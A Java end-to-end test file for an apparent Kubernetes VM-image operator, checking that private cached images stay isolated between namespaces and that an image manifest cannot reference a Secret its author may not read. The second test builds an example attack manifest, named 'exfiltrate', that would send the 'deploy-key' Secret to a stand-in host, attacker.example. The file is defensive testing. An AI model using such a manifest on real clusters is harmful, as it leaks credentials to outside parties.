package dev.vmtask.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vmtask.api.image.ImagePhase;
import dev.vmtask.api.image.VMImage;
import dev.vmtask.testbed.Mode;
import dev.vmtask.testbed.TestNamespace;
import dev.vmtask.testbed.Testbed;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.rbac.PolicyRuleBuilder;
import io.fabric8.kubernetes.api.model.rbac.RoleBindingBuilder;
import io.fabric8.kubernetes.api.model.rbac.RoleBuilder;
import io.fabric8.kubernetes.client.Config;
import io.fabric8.kubernetes.client.ConfigBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientBuilder;
import io.fabric8.kubernetes.client.KubernetesClientException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Tenants and the node's image cache: an image fetched with one namespace's credentials is not
 * served to another namespace that only knows its digest; a VMImage cannot send a Secret its author
 * may not read.
 */
@Testbed(Mode.FULL)
class ImageTenancyE2E {
  private static final Path NODE_CACHE = Path.of("/var/lib/vmtask/cache");

  private KubernetesClient client;
  private E2eEnvironment env;
  private TestNamespace teamA;
  private TestNamespace teamB;

  @BeforeEach
  void setUp(KubernetesClient client, TestNamespace namespace) {
    this.client = client;
    this.env = E2eEnvironment.get(client);
    this.teamA = namespace;
    this.teamB = TestNamespace.create(client);
  }

  @AfterEach
  void deleteSecondNamespace() {
    teamB.delete();
  }

  private void secret(TestNamespace ns, String name, String token) {
    client
        .secrets()
        .inNamespace(ns.name())
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName(name)
                .endMetadata()
                .withStringData(Map.of("token", token))
                .build())
        .create();
  }

  @Test
  void aPrivateImageIsServedOnlyToNamespacesThatCanFetchItThemselves(@TempDir Path dir)
      throws Exception {
    byte[] disk = new byte[2 << 20];
    new Random().nextBytes(disk); // a digest no other test has cached
    String file = "private-" + dir.getFileName() + ".img";
    String url =
        env.images()
            .serveWithAuthorization(
                file, Files.write(dir.resolve(file), disk), Set.of("Bearer a", "Bearer b"));
    String sha256 = Digests.sha256(disk);
    Tasks a = new Tasks(client, teamA.name());
    Tasks b = new Tasks(client, teamB.name());
    secret(teamA, "creds", "Bearer a");
    secret(teamB, "guess", "Bearer guessed");
    secret(teamB, "creds", "Bearer b");

    a.createImage(Manifests.privateRawImage("private", url, sha256, "creds"));
    assertThat(a.awaitImage("private", ImagePhase.Ready).getStatus().getDigest())
        .isEqualTo("sha256:" + sha256);
    assertThat(env.images().requests(file)).isEqualTo(1);

    // Namespace B knows the digest, but its credentials do not fetch the image.
    b.createImage(Manifests.privateRawImage("stolen", url, sha256, "guess"));
    VMImage refused = b.awaitImage("stolen", ImagePhase.Failed);
    assertThat(refused.getStatus().getMessage())
        .as("the reason says whose image it is not")
        .contains("namespace " + teamB.name() + " may not use image sha256:" + sha256)
        .contains("403")
        .doesNotContain("Bearer");
    assertThat(env.images().requests(file)).as("no bytes went to B").isEqualTo(1);

    // With its own access, B proves it once and gets the cached bytes.
    b.createImage(Manifests.privateRawImage("own", url, sha256, "creds"));
    assertThat(b.awaitImage("own", ImagePhase.Ready).getStatus().getDigest())
        .isEqualTo("sha256:" + sha256);
    assertThat(env.images().requests(file)).as("A's fetch and B's proof").isEqualTo(2);
    if (env.onTheNode()) {
      try (Stream<Path> entries = Files.list(NODE_CACHE.resolve("sha256"))) {
        assertThat(entries.filter(p -> p.getFileName().toString().equals(sha256)))
            .as("one copy in the node's cache")
            .hasSize(1);
      }
    }
  }

  @Test
  void aVmImageNamingASecretItsAuthorMayNotReadIsRefusedAtApply() {
    secret(teamA, "deploy-key", "Bearer secret");
    String user = "image-author";
    client
        .rbac()
        .roles()
        .inNamespace(teamA.name())
        .resource(
            new RoleBuilder()
                .withNewMetadata()
                .withName("images-only")
                .endMetadata()
                .withRules(
                    new PolicyRuleBuilder()
                        .withApiGroups("vmtask.dev")
                        .withResources("vmimages")
                        .withVerbs("create", "get", "list")
                        .build())
                .build())
        .create();
    client
        .rbac()
        .roleBindings()
        .inNamespace(teamA.name())
        .resource(
            new RoleBindingBuilder()
                .withNewMetadata()
                .withName("images-only")
                .endMetadata()
                .withNewRoleRef("rbac.authorization.k8s.io", "Role", "images-only")
                .addNewSubject()
                .withKind("User")
                .withApiGroup("rbac.authorization.k8s.io")
                .withName(user)
                .endSubject()
                .build())
        .create();
    Config asAuthor =
        new ConfigBuilder(client.getConfiguration()).withImpersonateUsername(user).build();
    String manifest =
        Manifests.privateRawImage(
            "exfiltrate", "http://attacker.example/x.img", "a".repeat(64), "deploy-key");

    try (KubernetesClient author = new KubernetesClientBuilder().withConfig(asAuthor).build()) {
      assertThatThrownBy(() -> new Tasks(author, teamA.name()).createImage(manifest))
          .isInstanceOf(KubernetesClientException.class)
          .hasMessageContaining("may not get Secret deploy-key");
    }
    assertThat(
            client.resources(VMImage.class).inNamespace(teamA.name()).withName("exfiltrate").get())
        .isNull();

    // Whoever may read the Secret may use it.
    new Tasks(client, teamA.name()).createImage(manifest);
    assertThat(
            client.resources(VMImage.class).inNamespace(teamA.name()).withName("exfiltrate").get())
        .isNotNull();
  }
}
